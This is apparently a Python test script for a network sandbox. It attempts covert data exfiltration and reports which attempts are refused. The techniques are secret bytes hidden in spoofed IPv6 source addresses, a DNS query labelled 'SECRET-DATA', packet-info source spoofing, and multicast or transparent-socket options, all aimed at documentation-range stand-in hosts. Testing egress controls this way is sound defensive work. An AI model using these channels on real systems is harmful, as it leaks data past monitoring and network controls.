"""Managed: has the agent or the kernel itself send words of its own to another host; prints what was not refused."""

import socket, struct, sys

with_options = sys.argv[1] == "options"
FREEBIND = 78
# Whoever has this address gets the answers; its lower half can be a secret as well.
EVIL = socket.inet_ntop(socket.AF_INET6, bytes.fromhex("20010db801130000") + b"SECRET01")
STUB, API = ("2001:db8:113::53", 53), ("2001:db8:113::a", 443)
QUESTION = (
    b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(part)]) + part for part in (b"SECRET-DATA", b"example")) + b"\0\0\x01\0\1"
)


def attempt(name, action):
    try:
        action()
        print("went", name)
    except PermissionError:
        print("refused", name)
    except OSError as error:
        print("failed", name, error)


def made(kind, port):
    one = socket.socket(socket.AF_INET6, kind)
    one.settimeout(1)
    if with_options:
        one.setsockopt(socket.IPPROTO_IPV6, FREEBIND, 1)
    if port:
        one.bind((EVIL, port))
    return one


attempt("sendto", lambda: made(socket.SOCK_DGRAM, 4444).sendto(QUESTION, STUB))
attempt("connect", lambda: made(socket.SOCK_DGRAM, 4445).connect(STUB))
attempt("tcp", lambda: made(socket.SOCK_STREAM, 4446).connect(API))


def packet(connected):
    one = made(socket.SOCK_DGRAM, 0)
    source = [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, socket.inet_pton(socket.AF_INET6, EVIL) + bytes(4))]
    if connected:
        one.connect(STUB)
        one.sendmsg([QUESTION], source)
    else:
        one.sendmsg([QUESTION], source, 0, STUB)


attempt("packet", lambda: packet(False))
attempt("connected packet", lambda: packet(True))

if with_options:
    index = socket.if_nametoindex("in0")
    six, four = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    group6 = b"\xff\x0e" + b"SECRET-DATA-14"
    storage6 = struct.pack("=HHI16sI", socket.AF_INET6, 0, 0, group6, 0).ljust(128, b"\0")
    storage4 = struct.pack("=HH4s", socket.AF_INET, 0, b"\xe9SEC").ljust(128, b"\0")
    mreqn = b"\xe9SEC" + bytes(4) + struct.pack("i", index)
    for name, one, level, option, value in [
        ("v6 membership", six, socket.IPPROTO_IPV6, 20, group6 + struct.pack("I", index)),
        ("v6 group", six, socket.IPPROTO_IPV6, 42, struct.pack("@Q", index) + storage6),
        ("v6 sources", six, socket.IPPROTO_IPV6, 46, struct.pack("@Q", index) + storage6 + storage6),
        ("v4 membership", four, socket.IPPROTO_IP, 35, mreqn),
        ("v4 sources", four, socket.IPPROTO_IP, 39, b"\xe9SEC" + bytes(4) + b"SECR"),
        ("v4 group", four, socket.IPPROTO_IP, 42, struct.pack("@Q", index) + storage4),
        ("v4 freebind", four, socket.IPPROTO_IP, 15, struct.pack("i", 1)),
        ("v4 transparent", four, socket.IPPROTO_IP, 19, struct.pack("i", 1)),
        ("v6 transparent", six, socket.IPPROTO_IPV6, 75, struct.pack("i", 1)),
    ]:
        attempt(name, lambda: one.setsockopt(level, option, value))
    # Others are set as ever, whatever their size.
    one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
    one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("@qq", 3, 0).ljust(8192, b"\0"))
    six.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 7)
    assert one.getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY) == 1
    assert one.getsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, 16) == struct.pack("@qq", 3, 0)
    assert six.getsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS) == 7
print("done")
